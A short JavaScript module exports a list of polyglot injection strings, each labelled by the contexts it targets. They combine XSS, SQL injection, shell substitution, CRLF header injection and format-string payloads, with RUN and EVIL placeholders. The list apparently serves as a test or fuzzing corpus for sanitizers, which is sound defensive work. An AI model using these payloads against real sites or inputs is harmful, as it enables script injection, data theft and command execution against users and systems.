// One string for many places: whatever it is put into, some part of it is an attack there.
export const polyglots = [
  [
    'every quote and every end tag',
    `'"\`--></style></script></title></textarea></noscript></template></select><img src=x onerror=RUN>`,
  ],
  [
    'address, attribute and element',
    `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+RUN//'>`,
  ],
  ['comment of every language', `/*'/*\`/*"/**/*/ <!--//--><img src=x onerror=RUN>//-->`],
  ['attribute in any quotes', `" onclick=RUN ' onclick=RUN \` onclick=RUN x="`],
  ['attribute with focus', `" autofocus tabindex=1 onfocus=RUN x="' autofocus onfocus=RUN x='`],
  [
    'string of JavaScript',
    `';RUN//";RUN//\`;RUN//\\';RUN//\\";RUN//--></script><script>RUN</script>`,
  ],
  ['string of JavaScript with a separator', `\u2028RUN\u2029</script><script>RUN</script>`],
  ['string of JSON', `"},{"id":"x","name":"<img src=x onerror=RUN>"}],"a":["`],
  ['string of CSS', `');}*{background:url(EVIL)}</style><img src=x onerror=RUN>`],
  ['header', `a\r\nContent-Type: text/html\r\n\r\n<script>RUN</script>`],
  ['CDATA and comment', `]]>--><![CDATA[<img src=x onerror=RUN>]]><!--<img src=x onerror=RUN>-->`],
  [
    'Markdown and HTML',
    `[a](javascript:RUN "</p><img src=x onerror=RUN>")<img alt="](x)" onerror=RUN src=x>`,
  ],
  [
    'Markdown, code and HTML',
    '`<p title="`"><img src=x onerror=RUN>">`\n\n    <img src=x onerror=RUN>',
  ],
  ['link in any syntax', `<a href="javascript:RUN">[a](javascript:RUN)<javascript:RUN></a>`],
  ['picture that is a page', `GIF89a/*<svg/onload=RUN>*/=1;RUN`],
  [
    'page that is a feed',
    `<?xml version="1.0"?><rss><item><link>javascript:RUN</link></item></rss>`,
  ],
  ['page that is a style sheet', `{}*{xss:expression(RUN)}</style><script>RUN</script>`],
  ['SQL and HTML', `' OR 1=1;--<img src=x onerror=RUN>`],
  ['shell and HTML', `$(RUN)\`RUN\`|RUN;<img src=x onerror=RUN>`],
  ['format string', `%s%n%x{0}<img src=x onerror=RUN>`],
];
